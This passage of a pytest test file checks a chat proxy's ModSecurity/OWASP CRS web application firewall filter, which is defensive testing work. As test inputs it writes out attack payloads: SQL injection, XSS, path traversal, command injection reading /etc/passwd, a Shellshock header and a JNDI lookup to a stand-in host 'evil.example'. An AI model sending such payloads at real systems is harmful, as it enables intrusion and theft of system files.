"""The built-in filter kind ``waf``: ModSecurity v3 (Debian's libmodsecurity3) running
the OWASP CRS (Debian's modsecurity-crs).  Its ModSecurity configuration written from
the options, exclusions, the engine's answers turned into verdicts, requests, bodies
(url-encoded, JSON, multipart with CRLF or LF, XML), responses (when asked for) and
WebSocket messages inspected,
report mode, the access-log note and the metrics, build-time errors naming the option
(directly and through the configuration loader), the false-positive guard on the
benign chat corpus (tests/waf_corpus, measured by bench/waf/measure.py), and the filter
in a real ``twistd -n chatproxy`` process with real clients."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import os
import sys
import time
import urllib.request
from ctypes.util import find_library
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from twisted.internet import defer
from twisted.logger import Logger, formatEvent

from chatproxy.config import ConfigError, load_config
from chatproxy.filters import DROP, CloseSession, FilterOptionError, IFilterFactory, IRequestFilter, Refuse
from chatproxy.filters import installed_filter_kinds
from chatproxy.filters.chain import RouteFilter
from chatproxy.filters.crs import DEFAULT_CRS, find_crs
from chatproxy.filters.modsecurity import EngineMissing, ModSecurity, Outcome
from chatproxy.filters.waf import BLOCKED, RESPONSE_BLOCKED, WebApplicationFirewall, waf
from chatproxy.filters.waf_results import announces_body, message_transaction, parse_message, request_transaction
from chatproxy.filters.waf_results import response_transaction, verdict
from chatproxy.filters.waf_setup import OUTBOUND_SCORE_RULE, SCORE_RULE, Exclusion, WafSettings, crs_setup
from chatproxy.filters.waf_setup import engine_setup, exclusions, load_order, parse_exclusion
from chatproxy.http.messages import RequestHead
from chatproxy.proxy.validate import validate
from chatproxy.testing import ChainRunner, build_filter, request_head, websocket_head
from conftest import SQL_ERROR_PAGE, free_port, wait_for_port
from test_filters_basic import WsUpstream, config, listen, log_line, send, ws_upstream  # noqa: F401 (fixture)

ROOT = Path(__file__).resolve().parents[1]
HAVE_ENGINE = find_library("modsecurity") is not None
HAVE_CRS = Path(DEFAULT_CRS, "rules").is_dir()
if not (HAVE_ENGINE and HAVE_CRS):
    if os.environ.get("CI"):
        raise RuntimeError("the waf tests need Debian's libmodsecurity3 and modsecurity-crs (.ci/run installs them)")
    pytest.skip("Debian's libmodsecurity3 and modsecurity-crs are not installed", allow_module_level=True)


def load_bench(script: str) -> Any:
    """bench/waf/SCRIPT.py as the module ``waf_SCRIPT`` (bench/ is no package)."""
    spec = importlib.util.spec_from_file_location(f"waf_{script}", ROOT / "bench" / "waf" / f"{script}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[f"waf_{script}"] = module
    spec.loader.exec_module(module)
    return module


measure = load_bench("measure")

BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
           ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
           ("Accept-Language", "fr-FR,fr;q=0.9"),
           ("Cookie", "JSESSIONID=0A1B2C3D4E5F; Pega-RULES=%7Babc%7D; lang=fr")]


def make_head(query: str = "", headers: list[tuple[str, str]] | None = None, path: str = "/prweb/chat",
              method: str = "GET", **fields: Any) -> RequestHead:
    """A request head as the proxy builds it: browser headers unless ``headers`` is given."""
    return request_head(None, method=method, path=path, query=query,
                        headers=BROWSER if headers is None else headers, host="chat.example.com", route="chat",
                        **fields)


def post_head(content_type: str, length: int, path: str = "/prweb/chat") -> RequestHead:
    """A POST head announcing a body of ``length`` bytes of ``content_type``."""
    return make_head(method="POST", path=path, headers=BROWSER + [("Content-Type", content_type),
                                                                  ("Content-Length", str(length))])


def q(value: str, name: str = "q") -> str:
    """A query string with one argument (percent-encoded once)."""
    return f"{name}={quote(value, safe='')}"


def inline(work: Any) -> defer.Deferred[Any]:
    """An offload that runs the work at once (no reactor in unit tests)."""
    return defer.succeed(work())


def settled(result: Any) -> Any:
    """What a hook decided: the value of its (already fired) Deferred, or the value."""
    if not isinstance(result, defer.Deferred):
        return result
    found: list[Any] = []
    result.addBoth(found.append)
    assert found, "the hook's Deferred has not fired"
    return found[0]


class Settled:
    """A built waf whose transactions run at once (``inline``) and whose hooks give
    their decisions, not Deferreds; every other attribute is the filter's."""

    def __init__(self, flt: WebApplicationFirewall) -> None:
        self.flt = flt
        flt.offload = inline

    def __getattr__(self, name: str) -> Any:
        return getattr(self.flt, name)

    def request(self, head: RequestHead) -> Any:
        """The request hook's decision."""
        return settled(self.flt.request(head))

    def request_body(self, head: RequestHead, body: bytes, complete: bool = True) -> Any:
        """The body hook's decision."""
        return settled(self.flt.request_body(head, body, complete))

    def message(self, head: RequestHead, payload: bytes, binary: bool, upward: bool) -> Any:
        """The message hook's verdict."""
        return settled(self.flt.message(head, payload, binary, upward))

    def response_body(self, head: RequestHead, status: int, headers: list[tuple[bytes, bytes]], body: bytes,
                      complete: bool = True) -> Any:
        """The response body hook's decision."""
        return settled(self.flt.response_body(head, status, headers, body, complete))


def build(options: dict[str, str] | None = None) -> Any:
    """``waf.build(options)``, its hooks settled at once (see :class:`Settled`)."""
    return Settled(waf.build(options or {}))


@pytest.fixture(scope="module")
def firewall() -> Any:
    """The waf with its defaults (paranoia 1, threshold 5), built once for the module."""
    return build()


# ---------------------------------------------------------------------------
# Registration and the rules it loads


def test_waf_is_an_installed_plugin(firewall):
    """``waf`` is found by getPlugins under its name, provides IFilterFactory, and
    builds (with no options) an object providing IRequestFilter with the documented
    defaults: paranoia 1, inbound threshold 5, 64 KiB of bodies and of messages,
    over_limit pass, the CRS from Debian's package, ModSecurity from libmodsecurity3."""
    assert installed_filter_kinds()["waf"] is waf
    assert IFilterFactory.providedBy(waf) and IRequestFilter.providedBy(firewall.flt)
    assert (firewall.paranoia, firewall.threshold, firewall.inspect_body_bytes, firewall.inspect_message_bytes,
            firewall.over_limit) == (1, 5, 65536, 65536, "pass")
    assert firewall.crs.rules_dir == f"{DEFAULT_CRS}/rules"
    assert firewall.engine.version.startswith("ModSecurity v3.")


def test_every_crs_rule_file_is_loaded():
    """All of the package's rules/*.conf are loaded, REQUEST-910 (IP reputation,
    GeoIP) included, and their ids are known (for exclusions)."""
    crs = find_crs()
    names = [Path(f).name for f in crs.files]
    assert "REQUEST-910-IP-REPUTATION.conf" in names and "REQUEST-942-APPLICATION-ATTACK-SQLI.conf" in names
    assert names == sorted(names)
    assert {942100, 941100, 930120, 932100, 944100, 913100, 943100, 949110}.issubset(crs.rule_ids)


# ---------------------------------------------------------------------------
# The configuration written from the options (no engine)


def test_crs_setup_from_options():
    """chatproxy's crs-setup: paranoia level under CRS 3's and CRS 4's names, both
    anomaly thresholds, the setup version CRS checks for; allowed methods and
    content types only when the options set them."""
    text = crs_setup(WafSettings(paranoia=3, inbound_threshold=10, outbound_threshold=8))
    assert "setvar:tx.paranoia_level=3" in text and "setvar:tx.blocking_paranoia_level=3" in text
    assert "tx.inbound_anomaly_score_threshold=10" in text and "tx.outbound_anomaly_score_threshold=8" in text
    assert "tx.crs_setup_version=" in text
    assert "allowed_methods" not in text and "allowed_request_content_type" not in text
    text = crs_setup(WafSettings(allowed_methods=("GET", "POST"), allowed_content_types=("application/json",)))
    assert "'tx.allowed_methods=GET POST'" in text
    assert "'tx.allowed_request_content_type=|application/json|'" in text


def test_engine_setup_and_exclusions():
    """The engine reads bodies up to the inspection limit (not at all with 0), turns on
    the JSON and XML body processors; exclusions become SecRuleRemoveById and
    SecRuleUpdateTargetById; the score rule logs in phase 5."""
    text = engine_setup(WafSettings(inspect_body_bytes=1024))
    assert "SecRequestBodyAccess On" in text and "SecRequestBodyLimit 1024" in text
    assert "ctl:requestBodyProcessor=JSON" in text and "ctl:requestBodyProcessor=XML" in text
    assert "SecRequestBodyAccess Off" in engine_setup(WafSettings(inspect_body_bytes=0))
    text = exclusions(WafSettings(exclusions=(Exclusion(920350), Exclusion(942100, "ARGS:json.text"))))
    assert "SecRuleRemoveById 920350" in text
    assert 'SecRuleUpdateTargetById 942100 "!ARGS:json.text"' in text
    text = exclusions(WafSettings(exclusions=(Exclusion(None, None, "attack-xss"),
                                              Exclusion(None, "ARGS:message", "attack-sqli"))))
    assert 'SecRuleRemoveByTag "attack-xss"' in text and 'SecRuleUpdateTargetByTag "attack-sqli" "!ARGS:message"' in text
    assert f"id:{SCORE_RULE},phase:5" in text


@pytest.mark.parametrize("text, expected", [
    ("942100", Exclusion(942100)),
    ("942100 ARGS:message", Exclusion(942100, "ARGS:message")),
    ("941100 REQUEST_COOKIES:/^_ga/", Exclusion(941100, "REQUEST_COOKIES:/^_ga/")),
    ("920350  REQUEST_HEADERS:Host", Exclusion(920350, "REQUEST_HEADERS:Host")),
    ("tag:attack-sqli", Exclusion(None, None, "attack-sqli")),
    ("tag:paranoia-level/2 ARGS:message", Exclusion(None, "ARGS:message", "paranoia-level/2")),
])
def test_parse_exclusion(text, expected):
    """An exclusion is a rule id or ``tag:TAG``, optionally followed by one ModSecurity target."""
    assert parse_exclusion(text) == expected


@pytest.mark.parametrize("text, message", [
    ("sqli", "'sqli' is not a rule id"),
    ("942100 args:message", "'args:message' is not a ModSecurity target"),
    ("942100 ARGS:a ARGS:b", "is not a rule id, 'tag:TAG', or one of them and a target"),
    ('942100 ARGS:"x"', "is not a ModSecurity target"),
    ("tag:", "is not a rule tag"),
    ("tag:'sqli'", "is not a rule tag"),
])
def test_parse_exclusion_errors(text, message):
    """A malformed exclusion is refused with the reason."""
    with pytest.raises(ValueError, match=message):
        parse_exclusion(text)


# ---------------------------------------------------------------------------
# The engine's answers (no engine: its log messages as text)

LOGGED = ('ModSecurity: Warning. detected SQLi using libinjection. [file "/usr/share/modsecurity-crs/rules/'
          'REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "46"] [id "942100"] [rev ""] [msg "SQL Injection Attack '
          'Detected via libinjection"] [data "Matched Data: s&1c found within ARGS:q: \' or "1"=1--"] [severity "2"] '
          '[ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [hostname "127.0.0.1"] [uri "/chat"] '
          '[unique_id "1"] [ref "v12,10"]')


def test_parse_message():
    """A rule's log message gives its id, message, the target named in its data (quotes
    inside the data do not cut it short) and the data."""
    match = parse_message(LOGGED)
    assert match is not None
    assert (match.id, match.message, match.target) == (942100, "SQL Injection Attack Detected via libinjection",
                                                        "ARGS:q")
    assert match.data == "Matched Data: s&1c found within ARGS:q: ' or \"1\"=1--"
    assert parse_message("ModSecurity: some notice without an id") is None


def test_verdict_takes_the_score_from_chatproxys_rule():
    """The verdict: the intervention's status, the score logged by chatproxy's score
    rule (not listed among the matches), each rule once, in order."""
    score = f'[id "{SCORE_RULE}"] [rev ""] [msg "chatproxy: inbound anomaly score"] [data "10"] [severity "0"]'
    found = verdict(Outcome(403, (LOGGED, LOGGED, score)))
    assert (found.status, found.score, found.rule_ids) == (403, 10, (942100,))
    assert verdict(Outcome(None, ())).rule_ids == ()


@pytest.mark.parametrize("headers, expected", [
    ([("Content-Length", "10")], True),
    ([("Transfer-Encoding", "chunked")], True),
    ([("Content-Length", "0")], False),
    ([], False),
    ([("Content-Length", "10"), ("Upgrade", "websocket")], False),
])
def test_announces_body(headers, expected):
    """A body follows when the head announces one and asks for no protocol switch."""
    assert announces_body(request_head(headers=headers)) is expected


def test_message_transaction():
    """A WebSocket message is a POST to the session's path with the handshake's Host,
    User-Agent, Accept and Origin (not its cookies): a JSON message as a JSON body, any
    other text (and JSON cut at the limit) as the url-encoded field ``message``."""
    head = websocket_head("/chat?sid=1", headers=[("User-Agent", "UA"), ("Cookie", "a=b"), ("Origin", "https://o")])
    found = message_transaction(head, b'{"text": "hi"}', False)
    assert (found.method, found.uri, found.body) == ("POST", b"/chat", b'{"text": "hi"}')
    names = [name.lower() for name, _ in found.headers]
    assert b"cookie" not in names and {b"user-agent", b"origin", b"content-type"} <= set(names)
    assert (b"Content-Type", b"application/json") in found.headers
    assert message_transaction(head, b"50% off & more", False).body == b"message=50%25%20off%20%26%20more"
    assert message_transaction(head, b'{"text": "hi"}', True).body.startswith(b"message=%7B")


# ---------------------------------------------------------------------------
# Requests


@pytest.mark.parametrize("query", [
    q("' or 1=1--"),
    q("<script>alert(document.cookie)</script>"),
    q("../../../../etc/passwd", "file"),
    q("; cat /etc/passwd", "cmd"),
    q("${jndi:ldap://evil.example/a}"),
])
def test_attacks_in_the_query_are_refused(firewall, query):
    """At paranoia 1, SQL injection, XSS, traversal, command injection and a template
    expression in a query argument get 403 with the short reason and an access-log note giving
    the anomaly score and the rule ids (949110, the blocking evaluation, last)."""
    decision = firewall.request(make_head(query))
    assert isinstance(decision, Refuse) and decision.status == 403 and decision.reason == BLOCKED
    assert decision.note.startswith("anomaly_score=") and decision.note.endswith(",949110")


@pytest.mark.parametrize("query", [
    q("Hi, I'd like to check order #4512 :)"),
    q("It's order #4711 -- can you select a faster delivery from the list?"),
    "pyActivity=pzMashupRequest&Channel=Web&message=" + quote("Bonjour, j'ai une question", safe=""),
    "",
])
def test_benign_requests_pass(firewall, query):
    """Ordinary chat text and Pega's query arguments pass at paranoia 1."""
    assert firewall.request(make_head(query)) is None


@pytest.mark.parametrize("headers", [
    BROWSER + [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
    BROWSER + [("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")],
    BROWSER + [("X-Debug", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
    BROWSER + [("Referer", "https://chat.example.com/?q=<script>alert(1)</script>")],
])
def test_headers_and_cookies_are_inspected(firewall, headers):
    """A scanner's User-Agent (913), a script in a cookie, Shellshock in a header, XSS
    in the Referer: refused."""
    assert firewall.request(make_head(headers=headers)) is not None


def test_request_with_a_body_is_inspected_with_its_body(firewall):
    """A request announcing a body is left to the body hook (inspected once, head and
    body together); a WebSocket handshake announcing one is inspected at once."""
    attack = make_head(q("' or 1=1--"), headers=BROWSER + [("Content-Length", "5")], method="POST")
    assert firewall.request(attack) is None
    assert firewall.request_body(attack, b"hello", True).status == 403
    handshake = make_head(q("' or 1=1--"), headers=BROWSER + [("Content-Length", "5"), ("Upgrade", "websocket")])
    assert firewall.request(handshake).status == 403


def test_paranoia_levels_and_threshold():
    """A PL2 rule (942440, SQL comment sequence) refuses at paranoia 2, not 1; a single
    critical rule (score 5) refuses at the default threshold, not at 10; at paranoia 4
    and threshold 10 the stacked SQL rules still refuse an injection."""
    comment = make_head(q("a -- b"))
    assert build({"paranoia": "1"}).request(comment) is None
    assert build({"paranoia": "2"}).request(comment).status == 403
    single = make_head(q("' or 1=1--"))
    assert build({"inbound_anomaly_threshold": "10"}).request(single) is None
    assert build({"paranoia": "4", "inbound_anomaly_threshold": "10"}).request(single).status == 403


def test_exclusions_by_id_and_by_target():
    """``exclude_rules``: an id alone turns the rule off everywhere; ``ID TARGET`` only
    for that target (the same value in another argument is still refused)."""
    assert build({"exclude_rules": "942100"}).request(make_head(q("' or 1=1--"))) is None
    targeted = build({"exclude_rules": "942100 ARGS:q"})
    assert targeted.request(make_head(q("' or 1=1--"))) is None
    assert targeted.request(make_head(q("' or 1=1--", "other"))).status == 403


def test_exclusions_by_tag_and_by_tag_and_target():
    """``exclude_rules = tag:attack-sqli`` turns off every SQL injection rule (XSS is still
    refused); ``tag:attack-sqli ARGS:q`` only for that argument."""
    untagged = build({"exclude_rules": "tag:attack-sqli"})
    assert untagged.request(make_head(q("' or 1=1--"))) is None
    assert untagged.request(make_head(q("<script>alert(1)</script>"))).status == 403
    targeted = build({"exclude_rules": "tag:attack-sqli ARGS:q"})
    assert targeted.request(make_head(q("' or 1=1--"))) is None
    assert targeted.request(make_head(q("' or 1=1--", "other"))).status == 403


# ---------------------------------------------------------------------------
# Bodies

MULTIPART = (b'--XX\nContent-Disposition: form-data; name="note"\n\nVALUE\n--XX\n'
             b'Content-Disposition: form-data; name="f"; filename="a.txt"\nContent-Type: text/plain\n\nfile\n--XX--\n')


@pytest.mark.parametrize("content_type, body, status", [
    ("application/x-www-form-urlencoded", b"name=jane&msg=%27+union+select+password+from+users--", 403),
    ("application/x-www-form-urlencoded", b"name=jane&msg=It%27s+order+4711", None),
    ("application/json", b'{"text": "<svg onload=alert(1)>"}', 403),
    ("application/json", b'{"a": {"b": ["x", "<script>alert(1)</script>"]}}', 403),
    ("application/json", b'{"type": "text", "text": "Thanks, I got it!"}', None),
    ("application/json", b'{"text": "unterminated', 400),
    ("multipart/form-data; boundary=XX", MULTIPART.replace(b"VALUE", b"<script>alert(1)</script>"), 403),
    ("multipart/form-data; boundary=XX",
     MULTIPART.replace(b"VALUE", b"<script>alert(1)</script>").replace(b"\n", b"\r\n"), 403),
    ("multipart/form-data; boundary=XX", MULTIPART, None),
    ("multipart/form-data; boundary=XX", MULTIPART.replace(b"\n", b"\r\n"), None),
    ("application/xml", b"<?xml version='1.0'?><order><note>' or 1=1--</note></order>", 403),
    ("application/xml", b"<?xml version='1.0'?><order><note>Leave it at the door, please</note></order>", None),
], ids=["form attack", "form", "json xss", "nested json", "json", "broken json", "multipart LF attack",
        "multipart CRLF attack", "multipart LF", "multipart CRLF", "xml attack", "xml"])
def test_request_bodies(firewall, content_type, body, status):
    """Url-encoded, JSON (also ``+json``), multipart (lines ending in LF or CRLF) and XML
    bodies are parsed into the arguments CRS inspects; a JSON body that does not parse
    gets 400 (ModSecurity's recommended rule 200002)."""
    decision = firewall.request_body(post_head(content_type, len(body)), body, True)
    assert (decision.status if decision is not None else None) == status


def test_allowed_content_types():
    """CRS's content-type policy (920420) refuses a type it does not list (text/plain in
    CRS 3.3); ``allowed_content_types`` replaces the list, and a ``+json`` type listed
    there is parsed as JSON."""
    flt = build({})
    assert flt.inspect(request_transaction(post_head("text/plain", 5), b"hello")).rule_ids == (920420, 949110)
    allowing = build({"allowed_content_types": "application/json, text/plain, application/vnd.api+json"})
    assert allowing.request_body(post_head("text/plain", 5), b"hello", True) is None
    body = b'{"text": "<script>alert(1)</script>"}'
    found = allowing.inspect(request_transaction(post_head("application/vnd.api+json", len(body)), body))
    assert 941110 in found.rule_ids and 920420 not in found.rule_ids


def test_inspection_limit_and_over_limit_policy():
    """Only the first ``inspect_body_bytes`` of a body are inspected: with ``over_limit =
    pass`` a JSON body cut there is not a parse error and an attack after the limit is not
    seen; with ``over_limit = refuse`` a body longer than the limit gets 413."""
    small = build({"inspect_body_bytes": "1k"})
    late = json.dumps({"pad": "x" * 2000, "text": "<script>alert(1)</script>"}).encode()
    head = post_head("application/json", len(late))
    assert small.request_body(head, late[:1024], False) is None
    assert small.request_body(head, late[:1024] + b"{", True) is None  # a hook before wanted more
    refusing = build({"inspect_body_bytes": "1k", "over_limit": "refuse"})
    assert refusing.request_body(head, late[:1024], False).status == 413
    fits = json.dumps({"text": "fine"}).encode()
    assert refusing.request_body(post_head("application/json", len(fits)), fits, True) is None


def test_every_transaction_is_handed_to_the_offload():
    """Requests, bodies and messages are inspected through the offload (the thread pool
    in the proxy): each hook returns a Deferred firing with its decision, and the work
    it handed over is the engine's transaction; what needs no inspection (a binary
    message, a request whose body will follow) is decided at once."""
    handed: list[Any] = []
    pending: list[defer.Deferred[Any]] = []

    def offload(work: Any) -> defer.Deferred[Any]:
        handed.append(work)
        pending.append(defer.Deferred())
        return pending[-1]

    flt = WebApplicationFirewall(WafSettings(), find_crs(), offload=offload)
    body = json.dumps({"text": "fine " * 4000, "evil": "<script>alert(1)</script>"}).encode()
    results = [flt.request(make_head(q("' or 1=1--"))),
               flt.request_body(post_head("application/json", len(body)), body, True),
               flt.message(websocket_head("/chat"), b"<script>alert(1)</script>", False, True)]
    assert all(isinstance(result, defer.Deferred) for result in results) and len(handed) == 3
    decisions: list[Any] = []
    for result, work, waiting in zip(results, handed, pending):
        result.addCallback(decisions.append)
        waiting.callback(work())  # as the pool does: the work's outcome, back in the reactor thread
    assert [getattr(d, "status", getattr(d, "code", None)) for d in decisions] == [403, 403, 1008]
    assert flt.message(websocket_head("/chat"), b"<script>", True, True) is None
    assert flt.request(post_head("application/json", 10)) is None and len(handed) == 3


# ---------------------------------------------------------------------------
# WebSocket messages


@pytest.mark.parametrize("payload, binary, upward, closed", [
    (json.dumps({"type": "message", "text": "<img src=x onerror=alert(document.cookie)>"}), False, True, True),
    (json.dumps({"type": "message", "text": "' union select password from users--"}), False, True, True),
    ("plain text ' or 1=1--", False, True, True),
    (json.dumps({"type": "message", "text": "Bonjour, j'ai une question sur ma commande"}), False, True, False),
    ("<script>alert(1)</script>", True, True, False),
    ("<script>alert(1)</script>", False, False, False),
])
def test_messages(firewall, payload, binary, upward, closed):
    """Client-to-upstream text messages are inspected (JSON by its keys and values, other
    text as one value): an attack closes the session with 1008; binary messages and
    messages from the upstream are not inspected."""
    verdict_ = firewall.message(websocket_head("/chat"), payload.encode(), binary, upward)
    assert verdict_ == (CloseSession(1008, BLOCKED) if closed else None)


def test_message_limit_and_drop():
    """A message longer than ``inspect_message_bytes`` is inspected up to the limit (pass)
    or refused with 1009 (refuse); with ``refused_message = drop`` the chain drops a
    refused message and the session goes on."""
    attack = "<script>alert(1)</script>"
    late = "x" * 200 + attack
    assert build({"inspect_message_bytes": "100"}).message(websocket_head(), late.encode(), False, True) is None
    refusing = build({"inspect_message_bytes": "100", "over_limit": "refuse"})
    assert refusing.message(websocket_head(), late.encode(), False, True).code == 1009
    runner = ChainRunner(RouteFilter("waf", build().flt, drop_refused=True))
    assert runner.message(attack) == DROP
    assert runner.message("hello") is None and runner.counters["waf:refused"] == 1


# ---------------------------------------------------------------------------
# Report mode, log line, metrics


def test_report_mode_passes_and_notes(firewall):
    """``mode = report`` (detection only): the request passes, the chain counts it as
    reported, and the head carries the waf's note for the access log."""
    runner = ChainRunner(RouteFilter("waf", firewall.flt, report=True))
    outcome = runner.request(make_head(q("../../../../etc/passwd", "file")))
    assert outcome.passed and runner.counters["waf:reported"] == 1
    (name, note), = outcome.head.notes
    assert name == "waf" and "rules=930100,930110,930120" in note
    refused = ChainRunner(RouteFilter("waf", firewall.flt)).request(make_head(q("' or 1=1--")))
    assert refused.status == 403 and refused.head.notes[0][1].startswith("anomaly_score=5 rules=942100")


def test_log_line_lists_rules_targets_and_data(monkeypatch):
    """One log line per inspection that matched: the verdict, score, threshold and
    paranoia, the request, and each rule with its message, target and (at most 100
    characters of) its data."""
    events: list[dict[str, Any]] = []
    monkeypatch.setattr(Logger, "info", lambda self, fmt, **kw: events.append(dict(kw, log_format=fmt)))
    flt = build({})
    flt.request(make_head(q("' or 1=1--"), client="198.51.100.7"))
    line = formatEvent(events[-1])
    assert line.startswith("waf: refused with 403 (anomaly score 5, threshold 5, paranoia 1) for GET /prweb/chat?q=")
    assert "from 198.51.100.7" in line
    assert "942100 SQL Injection Attack Detected via libinjection at ARGS:q" in line
    assert "949110 Inbound Anomaly Score Exceeded (Total Score: 5)" in line


def test_metrics_by_route_outcome_and_rule():
    """The filter's counters: inspections by route, what and outcome, rule matches by
    route and rule id (the proxy adds the filter section as a label)."""
    flt = build({})
    flt.request(make_head(q("' or 1=1--")))
    flt.request(make_head(q("hello")))
    flt.message(websocket_head("/ws", route="chat"), b"<script>alert(1)</script>", False, True)
    samples = {(m.name, m.labels): m.value for m in flt.metrics()}
    inspections = "chatproxy_waf_inspections"
    assert samples[(inspections, (("route", "chat"), ("what", "request"), ("outcome", "refused")))] == 1
    assert samples[(inspections, (("route", "chat"), ("what", "request"), ("outcome", "clean")))] == 1
    assert samples[(inspections, (("route", "chat"), ("what", "message"), ("outcome", "refused")))] == 1
    assert samples[("chatproxy_waf_rule_matches", (("route", "chat"), ("rule", "942100")))] == 1
    assert samples[("chatproxy_waf_rule_matches", (("route", "chat"), ("rule", "949110")))] == 2


# ---------------------------------------------------------------------------
# Responses (inspect_responses = yes)

HTML = [(b"Content-Type", b"text/html; charset=utf-8")]
SQL_ERROR = b"<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server</p>"


def test_the_response_rule_set_is_the_initialization_and_the_response_rules():
    """The response rule set reads response bodies of the inspected media types up to the
    limit (not request bodies), loads CRS's initialization and RESPONSE-95x files (not the
    request rules, not the correlation file), the exclusions and the outbound score rule."""
    settings = WafSettings(inspect_response_bytes=2048, response_types=("text/html", "application/json"),
                           exclusions=(Exclusion(951230),))
    order = load_order(settings, find_crs().files, responses=True)
    setup = order[0][1]
    assert "SecResponseBodyAccess On" in setup and "SecResponseBodyLimit 2048" in setup
    assert "SecResponseBodyMimeType text/html application/json" in setup and "SecRequestBodyAccess Off" in setup
    files = [Path(item).name for kind, item, _ in order if kind == "file"]
    assert files[0] == "REQUEST-901-INITIALIZATION.conf"
    assert files[1:] and all(name.startswith("RESPONSE-95") for name in files[1:])
    assert "RESPONSE-959-BLOCKING-EVALUATION.conf" in files
    assert "SecRuleRemoveById 951230" in order[-1][1] and f"id:{OUTBOUND_SCORE_RULE},phase:5" in order[-1][1]
    assert "SecResponseBodyAccess Off" in engine_setup(settings)


def test_responses_are_inspected_only_when_asked(firewall):
    """By default the waf reads no response (no response rule set, no bytes wanted);
    inspect_responses = yes wants the first 64 KiB of text/plain, text/html and text/xml
    responses, or what inspect_response_bytes and response_content_types say."""
    assert firewall.inspect_response_bytes == 0 and firewall.response_rules is None
    flt = build({"inspect_responses": "yes"})
    assert flt.inspect_response_bytes == 65536
    assert flt.inspect_response_types == frozenset({b"text/plain", b"text/html", b"text/xml"})
    flt = build({"inspect_responses": "yes", "inspect_response_bytes": "8k",
                 "response_content_types": "text/html, Application/JSON"})
    assert flt.inspect_response_bytes == 8192 and flt.inspect_response_types == {b"text/html", b"application/json"}


@pytest.fixture(scope="module")
def response_firewall() -> Any:
    """The waf with inspect_responses = yes, built once for the module."""
    return build({"inspect_responses": "yes"})


@pytest.mark.parametrize("body, rule", [
    (SQL_ERROR, 951230),
    (b"<pre>java.lang.NullPointerException\n\tat com.example.Chat.send(Chat.java:42)</pre>", 952110),
    (b"<?php echo $secret; ?>", 953120),
    (b"<html><title>Index of /backup</title><h1>Index of /backup</h1></html>", 950130),
])
def test_leaking_responses_are_refused(response_firewall, body, rule):
    """A response leaking an SQL error, a Java stack trace, PHP source or a directory
    listing is refused with 403 (CRS's outbound anomaly threshold); the note has the
    outbound score and the rule."""
    decision = response_firewall.response_body(make_head(), 200, HTML, body)
    assert isinstance(decision, Refuse) and decision.status == 403 and decision.reason == RESPONSE_BLOCKED
    assert decision.note.startswith("outbound_anomaly_score=") and str(rule) in decision.note


@pytest.mark.parametrize("status, body", [
    (200, b"<html><body><p>Hi Jane, how can I help you with order #4512?</p></body></html>"),
    (200, b"Thanks for waiting -- an agent will join shortly; select an option: 1) billing 2) orders"),
    (404, b"<html><body>Not found</body></html>"),
])
def test_ordinary_responses_pass(response_firewall, status, body):
    """Ordinary chat pages and errors pass the response rules."""
    assert response_firewall.response_body(make_head(), status, HTML, body) is None


def test_outbound_threshold_exclusions_and_paranoia_apply_to_responses():
    """outbound_anomaly_threshold decides (a leak scoring 5 passes a threshold of 10 and is
    counted as matched); an exclusion by id turns the rule off for responses too; paranoia
    2 adds CRS's 5xx-status rule."""
    lenient = build({"inspect_responses": "yes", "outbound_anomaly_threshold": "10"})
    assert lenient.response_body(make_head(), 200, HTML, SQL_ERROR) is None
    assert lenient.inspections[("chat", "response", "matched")] == 1
    assert lenient.rule_matches[("chat", 951230)] == 1
    excluded = build({"inspect_responses": "yes", "exclude_rules": "951230"})
    assert excluded.response_body(make_head(), 200, HTML, SQL_ERROR) is None
    strict = build({"inspect_responses": "yes", "paranoia": "2", "outbound_anomaly_threshold": "100"})
    strict.response_body(make_head(), 503, HTML, b"down for maintenance")
    assert strict.rule_matches[("chat", 950100)] == 1
    assert build({"inspect_responses": "yes"}).response_body(make_head(), 503, HTML, b"down") is None


def test_response_transaction():
    """A response is run with the request's method, target and headers (no request body)
    and its own status, headers and body; HTTP/2 requests say so to the engine."""
    transaction = response_transaction(make_head(q("x")), 200, HTML, b"<p>hi</p>")
    assert transaction.method == "GET" and transaction.uri == b"/prweb/chat?q=x" and transaction.body is None
    assert transaction.response is not None and transaction.response.status == 200
    assert transaction.response.body == b"<p>hi</p>" and transaction.response.protocol == "HTTP 1.1"
    assert response_transaction(make_head(version="2"), 204, [], b"").response.protocol == "HTTP 2.0"


# ---------------------------------------------------------------------------
# Errors


@pytest.mark.parametrize("options, option, message", [
    ({"paranoia": "5"}, "paranoia", "expected a paranoia level from 1 to 4, got 5"),
    ({"inbound_anomaly_threshold": "0"}, "inbound_anomaly_threshold", "expected a whole number of at least 1"),
    ({"inspect_body_bytes": "17m"}, "inspect_body_bytes", "must be at most 16m"),
    ({"over_limit": "drop"}, "over_limit", "pass or refuse"),
    ({"exclude_rules": "123456"}, "exclude_rules", "unknown rule id 123456: the CRS in /usr/share/modsecurity-crs"),
    ({"exclude_rules": "942100 args:q"}, "exclude_rules", "not a ModSecurity target"),
    ({"exclude_rules": "tag:attack-nosuch"}, "exclude_rules", "unknown tag attack-nosuch: no rule of the CRS"),
    ({"crs": "/nonexistent/crs"}, "crs", "no OWASP CRS at /nonexistent/crs: the directory does not exist"),
    ({"inspect_responses": "sometimes"}, "inspect_responses", "yes"),
    ({"inspect_responses": "yes", "inspect_response_bytes": "17m"}, "inspect_response_bytes", "must be at most 16m"),
    ({"inspect_responses": "yes", "response_content_types": "html"}, "response_content_types", "not a media type"),
    ({"threshold": "5"}, "threshold", "unknown option"),
    ({"disable_rules": "942100"}, "disable_rules", "unknown option"),
])
def test_build_errors_name_the_option(options, option, message):
    """Every mistake is a FilterOptionError naming its option."""
    with pytest.raises(FilterOptionError) as info:
        build_filter(waf, options, directory=ROOT)
    assert info.value.option == option and message in info.value.message


def test_crs_without_rule_files_and_missing_engine(tmp_path, monkeypatch):
    """A ``crs`` directory without rule files is refused; an engine that cannot be
